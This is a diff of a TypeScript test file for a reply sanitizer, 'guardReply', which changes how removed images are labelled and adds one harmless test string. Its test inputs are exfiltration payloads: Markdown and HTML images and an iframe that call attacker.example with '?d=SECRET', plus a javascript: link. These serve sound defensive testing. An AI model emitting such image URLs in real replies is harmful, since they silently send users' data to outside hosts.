@@ -57,21 +57,21 @@ describe('guardReply: links to hosts not allowed are made inert', () => {
 
 describe('guardReply: images are removed', () => {
   const cases: Array<[string, string, string]> = [
-    ['a Markdown image', '![pixel](https://attacker.example/p.png?d=SECRET)', '[image: pixel]'],
-    ['a Markdown image on an allowed host', '![chart](https://github.com/c.png)', '[image: chart]'],
-    ['a Markdown image with a title', '![a](https://x.example/p.png "t")', '[image: a]'],
+    ['a Markdown image', '![pixel](https://attacker.example/p.png?d=SECRET)', '(image: pixel)'],
+    ['a Markdown image on an allowed host', '![chart](https://github.com/c.png)', '(image: chart)'],
+    ['a Markdown image with a title', '![a](https://x.example/p.png "t")', '(image: a)'],
     [
       'a reference image',
       '![logo][l]\n\n[l]: https://attacker.example/l.png',
-      '[image: logo]\n\n[l]: hxxps://attacker[.]example/…',
+      '(image: logo)\n\n[l]: hxxps://attacker[.]example/…',
     ],
-    ['an HTML img', '<img src="https://attacker.example/p.png?d=SECRET" alt="logo">', '[image: logo]'],
-    ['an HTML img without alt', '<IMG SRC=https://attacker.example/p.png>', '[image]'],
+    ['an HTML img', '<img src="https://attacker.example/p.png?d=SECRET" alt="logo">', '(image: logo)'],
+    ['an HTML img without alt', '<IMG SRC=https://attacker.example/p.png>', '(image)'],
     ['an iframe', 'a<iframe src="https://attacker.example/f"></iframe>b', 'a</iframe>b'],
     [
       'an image whose alt holds a URL',
       '![https://attacker.example/x](https://y.example/p.png)',
-      '[image: hxxps://attacker[.]example/…]',
+      '(image: hxxps://attacker[.]example/…)',
     ],
   ];
   for (const [name, input, output] of cases) {
@@ -87,6 +87,7 @@ describe('guardReply: what is left alone', () => {
     '<https://github.com/org/repo>',
     'edit package.json and src/index.ts; Node.js 20, v1.2.3.4 and 10.0.0.1 are fine, e.g. here.',
     'Is index.ts done? Yes: it is.',
+    'Replace <input> with the file, and <source> with its name.',
     'A note: data is ready, mailto is a word.',
     '`HEARTBEAT_OK` and *bold* and _italic_',
   ];
@@ -99,7 +100,7 @@ describe('guardReply: what is left alone', () => {
   it('keeps every http(s) link when "*" is allowed, and still removes images and javascript:', () => {
     const all = { allowedLinkHosts: ['*'] };
     assert.equal(guardReply('https://anything.example/?q=1', all), 'https://anything.example/?q=1');
-    assert.equal(guardReply('![x](https://anything.example/p.png)', all), '[image: x]');
+    assert.equal(guardReply('![x](https://anything.example/p.png)', all), '(image: x)');
     assert.equal(guardReply('[x](javascript:alert(1))', all), 'x (javascript[:]…)');
   });
 
